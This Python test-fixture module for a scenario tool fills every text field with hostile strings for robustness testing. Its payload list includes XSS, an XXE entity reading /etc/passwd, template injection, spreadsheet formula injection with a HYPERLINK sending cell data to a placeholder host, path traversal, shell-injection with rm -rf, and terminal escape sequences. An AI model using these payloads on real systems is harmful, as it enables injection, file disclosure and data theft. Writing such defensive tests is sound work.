"""A scenario with a hostile text in every place where a text may stand, and its harmless twin.

Which places these are is read from the schema: a new key that takes a text is filled by itself, and one in a block that
`everywhere.yaml` does not have is one of `places` and not of `filled`.
"""

import copy
import types
import unicodedata
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Annotated, Any, Union, get_args, get_origin

from annotated_types import MaxLen
from pydantic import BaseModel, RootModel, StringConstraints
from pydantic.fields import FieldInfo

from sim.charts.text import text_width
from sim.core.conditions import Clauses
from sim.core.fields import Form
from sim.core.numbers import Number
from sim.scenario import Scenario
from sim.scenario.messages import Faults
from sim.scenario.nodes import plain
from sim.scenario.yaml_reader import read_text

BASE = Path(__file__).parent / "everywhere.yaml"
ESC, CSI, OSC, ST = "\x1b", "\x9b", "\x9d", "\x9c"
LONG = 10_000

TEXTS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(2)>",
    "'><svg onload=alert(3)><desc>",
    "javascript:alert(4)",
    "]]></text></svg><script>alert(5)</script><![CDATA[",
    "--><b>out</b><!--",
    "</title></style></pre></td></table><h1>out</h1>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "&#x3c;script&#x3e;alert(6)&#60;/script&gt; &amp;lt; &nbsp;",
    "<a href='https://peacesim.invalid/a'>here</a> <base href=//peacesim.invalid>",
    "https://peacesim.invalid/b?x=1&y=2 //peacesim.invalid/c url(https://peacesim.invalid/d)",
    "@import 'https://peacesim.invalid/e'; } * { display: none }",
    "{{7*7}} {% for x in range(9) %}y{% endfor %} {# gone #} {{ self.__init__.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %> {0} {x.__class__} %s %n %(y)s %d%%",
    "$x^2$ and $$\\frac{1}{2}$$",
    "$\\mathdefault{x}$ \\$ 5$ and 6$",
    "\\textbf{x}\\input{/etc/passwd} \\href{https://peacesim.invalid}{y}",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://peacesim.invalid/?\"&A1,\"x\")",
    "+1+cmd|'/C calc'!A0",
    "-1+2",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1",
    "-1",
    "1e999",
    "-inf",
    " =1+1",
    "\t=1+2",
    "\u00a0=1+3",
    "\u200b=1+4",
    "\uff1d1+6",
    "\uff0b1+7",
    "\uff0d1+8",
    "\uff20SUM(1)",
    "\"=1+9\"",
    "a;=1+10;b",
    "a\t=1+11",
    "a,\"b\",'c';\"\"d\"",
    "\"\"\"",
    "'",
    "'=1+12",
    "|=1+13",
    "[red]not red[/red] [link=https://peacesim.invalid]x[/link] [/] [bold",
    ":warning: :skull:",
    "one\ntwo\n=three",
    "\u200egnitset\u200f\u061c",
    "zero\u200bwidth\u2060\u00ad\u200dhere\ufe0f",
    "tags\U000e0001\U000e0041\U000e007f",
    "Z" + "\u0300\u0316\u0489" * 100 + "algo",
    "\u0301begins with a mark",
    "\U0001f9d1\u200d\U0001f680\U0001f3f3\ufe0f\u200d\U0001f308\U0001f1fa\U0001f1e6",
    "\u548c\u5e73\u534f\u8bae\u306e\u5408\u610f \ud3c9\ud654",
    "\u05e9\u05dc\u05d5\u05dd \u0633\u0644\u0627\u0645 12 % (3-4)",
    "\ufdfd\u12031\ua9c5",
    "\U0001ffff\ue000",
    "file:///etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini \\\\peacesim.invalid\\share",
    "../../../../tmp/out",
    "`id` $(id) ; rm -rf x | cat && true",
    " id=\"text_1\" id=\"patch_2\" aria-labelledby=\"x\" onclick=\"alert(7)\"",
    "__class__",
    "NaN",
    "null",
    "a/b | c + d.e - f",
    "word " * (LONG // 5),
    "w" * LONG,
    "\u5927" * LONG,
)
CONTROLS: tuple[str, ...] = (  # refused in a scenario file; they can still stand in names of files and after `--set`
    f"{ESC}[31mred{ESC}[0m {ESC}[2J{ESC}[H",
    f"{ESC}]8;;https://peacesim.invalid{ESC}\\link{ESC}]8;;{ESC}\\",
    f"{ESC}]52;c;cGVhY2U={ESC}\\ {ESC}]0;title\x07",
    f"{CSI}31mred{CSI}0m {OSC}52;c;cGVhY2U={ST}",
    "a\rb\x08\x08\x07\x00\x7fc",
    "next\x85line",
    "page\x0cbreak\x0bdown",
    "one\r=1+14",
    "\ud800",
    "\ufeff=1+5",
    "two\u2028lines\u2029here",
    "\u202egnitset\u202c \u2066\u2067\u2068\u2069",
    "\ufffe\uffff",
)
NO_TEXT = {  # words that something else of the file, or a registry, must know
    "NamedModel.name", "EventSpec.pulls_levers[]", "EventSpec.lines_fall[]", "EventSpec.hardens[]",
    "EventSpec.removes.*[]", "EventSpec.narrows.key", "PullBackSpec.one_sided[]", "Scenario.sweep.key",
    "Scenario.sweep.*[]", "Known.what", "Source.date",
}  # fmt: skip
Write = Callable[[str, int, bool], str]  # a place, the most characters, whether on one line


def _twin_letters() -> dict[str, str]:
    """For each character that means something to somebody, a letter of about its width."""
    widths = {letter: text_width(letter, 100) for letter in "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"}
    signs = "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~"
    return {sign: min(widths, key=lambda each: abs(widths[each] - text_width(sign, 100))) for sign in signs}


@cache
def twin(text: str) -> str:
    """A text of about the same width without anything that a reader could take for more than letters."""
    letters = _twin_letters()
    line = "".join(" " if unicodedata.category(each) in ("Cc", "Zl", "Zp", "Zs") else each for each in text)
    kept = [letters.get(each, each) for each in line if unicodedata.category(each)[0] != "C"]
    return "".join(kept).lstrip("\uff1d\uff0b\uff0d\uff20") or "x"


# What the schema says


def _leaves(kind: Any, metadata: tuple[Any, ...] = ()) -> Iterator[tuple[Any, tuple[Any, ...]]]:
    """The kinds that an annotation stands for, each with its constraints."""
    form = next((each for each in metadata if isinstance(each, Form)), None)
    if get_origin(kind) is Annotated:
        inner, *constraints = get_args(kind)
        yield from _leaves(inner, (*metadata, *constraints))
    elif form is not None:
        yield from _leaves(form.kind, tuple(each for each in metadata if each is not form))
    elif get_origin(kind) in (Union, types.UnionType):
        for each in get_args(kind):
            yield from _leaves(each, metadata)
    else:
        yield kind, metadata


def _limits(metadata: tuple[Any, ...]) -> tuple[bool, int, bool]:
    """Whether a word is a name (has a pattern), its most characters, and whether it is one line."""
    flat = [one for each in metadata for one in (each.metadata if isinstance(each, FieldInfo) else (each,))]
    named = any(isinstance(each, StringConstraints) and each.pattern for each in flat)
    most = [each.max_length for each in flat if isinstance(each, (StringConstraints, MaxLen)) and each.max_length]
    return named, min(most, default=400), any(getattr(each, "func", None) is not None for each in flat)


def places() -> set[str]:
    """Every place of the schema where a text of the author's may stand, such as `PartyModel.label`."""
    found: set[str] = set()
    seen: set[type] = set()

    def of_model(model: type[BaseModel]) -> None:
        if model in seen or issubclass(model, Clauses):
            return
        seen.add(model)
        for name, field in model.model_fields.items():
            of_kind(field.annotation, tuple(field.metadata), f"{model.__name__}.{field.alias or name}")

    def of_kind(kind: Any, metadata: tuple[Any, ...], where: str) -> None:
        for leaf, constraints in _leaves(kind, metadata):
            origin = get_origin(leaf)
            if isinstance(leaf, type) and issubclass(leaf, BaseModel):
                of_model(leaf)
            elif origin is dict:
                key, value = get_args(leaf)
                if not any(_limits(more)[0] for _, more in _leaves(key)):
                    found.add(f"{where}.key")
                of_kind(value, (), f"{where}.*")
            elif origin is tuple:
                of_kind(get_args(leaf)[0], (), f"{where}[]")
            elif leaf is Any or (leaf is str and not _limits(constraints)[0]):
                found.add(where)

    of_model(Scenario)
    return found - NO_TEXT


# The scenario


class Filling:
    """Writes texts into a scenario."""

    def __init__(self, write: Write) -> None:
        self.write, self.filled, self.written = write, set[str](), 0
        self.keys = [self._text(f"Scenario.sources.key {k}", 80, False) for k in range(len(TEXTS))]
        self.filled.clear()

    def _text(self, where: str, most: int, one_line: bool) -> str:
        self.filled.add(where)
        self.written += 1
        return self.write(where, most, one_line)

    def scenario(self) -> dict[str, Any]:
        """The base with a text everywhere."""
        root = read_text(BASE.read_text(encoding="utf-8"), BASE.name, Faults())
        assert root is not None
        data = plain(root)
        data["sources"] = {key: {} for key in self.keys}
        self.of_model(Scenario, data)
        self.filled.add("Scenario.sources.key")
        return data

    def of_model(self, model: type[BaseModel], data: dict[str, Any]) -> None:
        """Write into all keys of a mapping that take a text, and go on below the others that are there."""
        for name, field in model.model_fields.items():
            key, where = field.alias or name, f"{model.__name__}.{field.alias or name}"
            made = self.of_kind(field.annotation, tuple(field.metadata), where, data.get(key))
            if made is not None:
                data[key] = made

    def of_kind(self, kind: Any, metadata: tuple[Any, ...], where: str, value: Any) -> Any:
        """What stands at a place once it is written into; None where nothing need stand."""
        for leaf, constraints in _leaves(kind, metadata):
            origin = get_origin(leaf)
            if isinstance(leaf, type) and issubclass(leaf, BaseModel):
                if value is not None:
                    value = self._below(leaf, value)
                if issubclass(leaf, Number) and isinstance(value, dict) and {"value", "range"} & set(value):
                    break  # a number, and no table of numbers
            elif origin is dict and (isinstance(value, dict) or get_args(leaf)[1] is Any):
                value = self._of_dict(leaf, where, value or {})
            elif origin is tuple and (isinstance(value, list) or f"{where}[]" in places()):
                value = self._of_list(leaf, where, value)
            elif leaf is str and where in places():
                _, most, one_line = _limits(constraints)
                value = self._text(where, most, one_line)
        return value

    def _below(self, model: type[BaseModel], value: Any) -> Any:
        if issubclass(model, Clauses):
            return value
        if issubclass(model, Number) and isinstance(value, (int, float)):
            value = {"value": value}
        if issubclass(model, RootModel):
            return self.of_kind(model.model_fields["root"].annotation, (), model.__name__, value)
        if isinstance(value, dict) and (not issubclass(model, Number) or {"value", "range"} & set(value)):
            self.of_model(model, value)
        return value

    def _of_dict(self, leaf: Any, where: str, value: dict[str, Any]) -> dict[str, Any]:
        _, below = get_args(leaf)
        if below is Any:
            if f"{where}.key" not in places():
                return value
            self.filled |= {f"{where}.key", f"{where}.*"}
            texts = [self._text(where, 80, False) for _ in range(4)]
            return {**value, texts[0]: [texts[1], {texts[2]: texts[3]}]}
        return {key: self.of_kind(below, (), f"{where}.*", each) for key, each in value.items()}

    def _of_list(self, leaf: Any, where: str, value: Any) -> Any:
        below, _ = get_args(leaf)
        if where.endswith(".source"):
            self.filled.add(f"{where}[]")
            return [self.keys[self.written % len(self.keys)]]
        if f"{where}[]" in places():
            return [self.of_kind(below, (), f"{where}[]", "") for _ in range(3)]
        return [self.of_kind(below, (), f"{where}[]", each) for each in value] if isinstance(value, list) else value


def rotated(shift: int, of: Callable[[str], str] = str) -> Write:
    """Texts one after the other, beginning somewhere, changed by `of` as a whole before they are cut to fit."""
    at = iter(range(shift, 10**9))

    def write(where: str, most: int, one_line: bool) -> str:
        while True:
            text = TEXTS[next(at) % len(TEXTS)]
            if not one_line or len(text[:most].splitlines()) <= 1:
                break
        return of(text[:most])

    return write


def hostile(shift: int = 0) -> tuple[str, Filling]:
    """A scenario file with hostile texts, and what was filled."""
    filling = Filling(rotated(shift))
    return yaml_of(filling.scenario()), filling


def harmless(shift: int = 0) -> str:
    """Its twin: the same scenario with letters instead."""
    return yaml_of(Filling(rotated(shift, twin)).scenario())


def yaml_of(value: Any) -> str:
    """Plain values as a YAML file: block style on top, below it on one line; every text in quotes and escaped."""
    return "".join(f"{_flow(key)}: {_flow(each)}\n" for key, each in copy.deepcopy(value).items())


def _flow(value: Any) -> str:
    if isinstance(value, dict):
        return "{" + ", ".join(f"{_flow(key)}: {_flow(each)}" for key, each in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(map(_flow, value)) + "]"
    if isinstance(value, (bool, int, float)):
        return str(value).lower() if isinstance(value, bool) else repr(value)
    if isinstance(value, str):
        return '"' + "".join(map(_escaped, value)) + '"'
    return value.isoformat()


def _escaped(char: str) -> str:
    if (char.isascii() and char.isalnum()) or char in " <>&=+-@$%{}[]/:;,.'()|!?#~^_`*":
        return char
    return f"\\U{ord(char):08x}"
